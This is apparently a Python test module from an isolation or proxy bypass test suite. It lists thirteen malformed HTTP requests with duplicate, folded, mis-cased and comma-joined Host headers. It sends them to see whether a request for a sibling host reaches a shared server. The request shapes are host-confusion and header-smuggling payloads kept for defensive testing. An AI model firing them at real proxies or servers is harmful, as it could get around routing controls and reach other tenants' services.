# SPDX-License-Identifier: Apache-2.0
"""Two Host fields, or one that two parsers read differently."""
from bypass import get

TITLE = "double, folded and malformed Host fields"
THREAT = "11"
OBSERVE = "a request whose Host is not only ok.test arrives at the shared server"
SHAPES = [
    "GET /{0} HTTP/1.1\r\nHost: ok.test\r\nHost: sib-{0}.test\r\n\r\n",
    "GET /{0} HTTP/1.1\r\nHost: sib-{0}.test\r\nHost: ok.test\r\n\r\n",
    "GET /{0} HTTP/1.1\r\nHost: ok.test\r\nhOST: sib-{0}.test\r\n\r\n",
    "GET /{0} HTTP/1.1\r\nHost: ok.test\r\n sib-{0}.test\r\n\r\n",
    "GET /{0} HTTP/1.1\r\nX: y\r\n Host: ok.test\r\nHost: sib-{0}.test\r\n\r\n",
    "GET /{0} HTTP/1.1\r\nHost : sib-{0}.test\r\nHost: ok.test\r\n\r\n",
    "GET /{0} HTTP/1.1\nHost: sib-{0}.test\n\n",
    "GET /{0} HTTP/1.1\r\nHost: ok.test, sib-{0}.test\r\n\r\n",
    "GET /{0} HTTP/1.0\r\nHost: sib-{0}.test\r\n\r\n",
    "GET /{0} HTTP/1.1\r\nX: a\rHost: ok.test\r\nHost: sib-{0}.test\r\n\r\n",
    "\r\n\r\nGET /{0} HTTP/1.1\r\nHost: sib-{0}.test\r\n\r\n",
    "GET  /{0}  HTTP/1.1\r\nHost: sib-{0}.test\r\n\r\n",
    "get /{0} HTTP/1.1\r\nHost: sib-{0}.test\r\n\r\n",
]


def attack(c):
    for shape in SHAPES:
        with c.step(repr(shape[:60])) as token:
            text = shape.format(token).encode()
            if c.proxy:
                with c.proxy.open(c.proxy.http) as s:
                    c.talk(s, text.replace(b"/" + token.encode(), b"http://ok.test/" + token.encode(), 1)
                           .replace(b" HTTP/1.1\r\n", b" HTTP/1.1\r\n" + c.proxy.authorization(), 1))
            else:
                c.send("ok.test", 80, text)


def seen(record, token, info):
    return token in record["tokens"] and record["kind"] == "http" and \
        any(h.lower() not in ("ok.test", "ok.test:80") for h in record.get("hosts", []))
